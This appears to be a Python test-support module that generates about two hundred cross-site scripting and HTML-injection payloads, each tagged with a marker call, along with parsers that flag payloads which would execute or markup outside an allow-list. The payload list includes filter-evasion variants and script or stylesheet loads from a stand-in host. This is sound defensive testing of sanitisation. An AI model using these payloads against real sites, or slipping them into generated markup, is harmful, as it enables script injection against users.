"""Two hundred texts that would run a script, load something, or leave their place, were they shown as HTML without care.

Each carries MARK where it would act, so that whoever looks at a page can tell whether it does. A NUL is in none: forms, the
contract and PostgreSQL refuse it.
"""

from html.parser import HTMLParser

MARK = "pwn7351"
CALL = f"{MARK}()"

_ELEMENTS = [
    "img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "audio src=x", "iframe", "marquee", "math", "a href=x",
    "div tabindex=0", "object data=x", "select autofocus", "textarea autofocus", "image src=x",
]  # fmt: skip
_EVENTS = ["onerror", "onload", "onfocus", "ontoggle"]
_ADDRESSES = [
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f" javascript:{CALL}", f"java\tscript:{CALL}", f"java&#10;script:{CALL}",
    f"&#106;avascript:{CALL}", f"javascript&colon;{CALL}", f"\x01javascript:{CALL}", f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>", f"data:text/html;base64,PHN2Zz4={MARK}", f"feed:javascript:{CALL}", f"//{MARK}.example/",
    f"view-source:javascript:{CALL}", f"jar:https://{MARK}.example!/", f"livescript:{CALL}",
]  # fmt: skip
_PLACES = [
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>', '<form action="{}"><input type=submit>', '<svg><a xlink:href="{}"><text>x</text></a>',
    '<object data="{}"></object>',
]  # fmt: skip
_OTHERS = [
    f"<script>{CALL}</script>", f"<SCRIPT>{CALL}</SCRIPT>", f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<script>{CALL}",
    f"<script/x>{CALL}</script>", f"<script src=//{MARK}.example/x.js></script>", f"<script\x0c>{CALL}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>", f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>", f"</style><script>{CALL}</script>", f"</script><script>{CALL}</script>",
    f"]]><script>{CALL}</script>", f"--><script>{CALL}</script>", f"<!--><script>{CALL}</script>-->",
    f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->", f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={CALL}&gt;'>",
    f"<template><script>{CALL}</script></template>", "{{ " + CALL + " }}", "{% include '" + MARK + "' %}", "${" + CALL + "}",
    f'"><script>{CALL}</script>', f"'><img src=x onerror={CALL}>", f'" onmouseover="{CALL}', f"' onfocus='{CALL}' autofocus='",
    f"` onmouseover=`{CALL}", f"<style>@import '//{MARK}.example/x.css';</style>", f"<link rel=stylesheet href=//{MARK}.example/x.css>",
    f'<meta http-equiv=refresh content="0;url=//{MARK}.example">', f"<base href=//{MARK}.example/>",
    f'<a linktype="page" id="1" onclick="{CALL}">x</a>', f'<a linktype="external" href="javascript:{CALL}">x</a>',
    f'<embed embedtype="image" id="1" onerror="{CALL}"/>', f'<embed embedtype="media" url="https://{MARK}.example/"/>',
    f'<p style="background:url(//{MARK}.example)">x</p>', f'<b class="sample notice" id="{MARK}" onclick="{CALL}">x</b>',
    f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{CALL}&amp;lt;/script&amp;gt;", f"%3Cscript%3E{CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e", f'<div data-controller="w-action" data-action="load@window->{MARK}#post">x</div>',
    f'<x is="{MARK}" onclick={CALL}>', f"<xmp><script>{CALL}</script></xmp>", f"<plaintext onclick={CALL}>",
    f"<noembed><img src=x onerror={CALL}></noembed>", f"<frameset onload={CALL}>", f"<table background=javascript:{CALL}><tr><td>x",
    f"<button formaction=javascript:{CALL}>x</button>", f"<area href=javascript:{CALL}>", f"<video poster=javascript:{CALL}//></video>",
    f'<iframe srcdoc="<script>{CALL}</script>"></iframe>', f"<img src=x:x\tonerror={CALL}>", f"<img/src=x/onerror={CALL}>",
    f"<<img src=x onerror={CALL}//>>", f"<svg/onload={CALL}>\u202e\u2028",
]  # fmt: skip
ATTACKS = [
    *(f"<{element} {event}={CALL}>" for element in _ELEMENTS for event in _EVENTS),
    *(place.format(address) for place in _PLACES for address in _ADDRESSES),
    *_OTHERS,
]

_URLS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset", "cite", "ping"}
_LOADING = {"script", "iframe", "object", "embed", "base", "meta", "link", "form", "frame", "frameset", "style", "svg", "math", "template"}


class _Reader(HTMLParser):
    """Collects what acts on a page and carries MARK."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = [(name, value or "") for name, value in attrs]
        self.inside = tag if tag in ("script", "style") and ("type", "application/json") not in values else ""
        if MARK in tag or any(MARK in name for name, _value in values):
            self.faults.append(f"<{tag} {values}")
        for name, value in values:
            if MARK not in value:
                continue
            scheme = "".join(value.split()).lstrip("\x00\x01").lower().partition(":")[0]
            acts = name.startswith("on") or name in ("style", "srcdoc", "is", "data-controller", "data-action")
            if acts or tag in _LOADING or (name in _URLS and (scheme not in ("http", "https") and ":" in value)):
                self.faults.append(f"<{tag} {name}={value!r}")

    def handle_endtag(self, tag: str) -> None:
        self.inside = ""

    def handle_data(self, data: str) -> None:
        if self.inside and MARK in data:
            self.faults.append(f"<{self.inside}>{data[:200]}")


def acting(page: str) -> list[str]:
    """What on a page of any kind carries out an attack."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.faults


_ALLOWED: dict[str, set[str]] = {
    **{tag: set() for tag in "b strong i em bdi br blockquote figcaption section mark li".split()},  # noqa: SIM905 - reads as a list
    **{tag: {"class"} for tag in ("p", "ul", "ol", "div", "aside", "figure")},
    **{tag: {"id"} for tag in ("h2", "h3", "h4")},
    "a": {"href", "data-article"},
    "img": {"src", "alt", "width", "height"},
    "section": {"id", "class"},
}
_EVERYWHERE = {"lang", "dir"}


class _StrictReader(HTMLParser):
    """Collects whatever a document's HTML may not have."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ALLOWED:
            self.faults.append(f"<{tag}>")
            return
        for name, value in attrs:
            is_address = name in ("href", "src")
            schemes = ("https://", "http://") if name == "src" else ("https://", "http://", "mailto:", "tel:")
            if name not in _ALLOWED[tag] | _EVERYWHERE or (is_address and not (value or "").startswith(schemes)):
                self.faults.append(f"<{tag} {name}={value!r}>")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"<![{data}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}")


def not_allowed(markup: str) -> list[str]:
    """What in a document's HTML is on no list of what is allowed."""
    reader = _StrictReader()
    reader.feed(markup)
    reader.close()
    return reader.faults
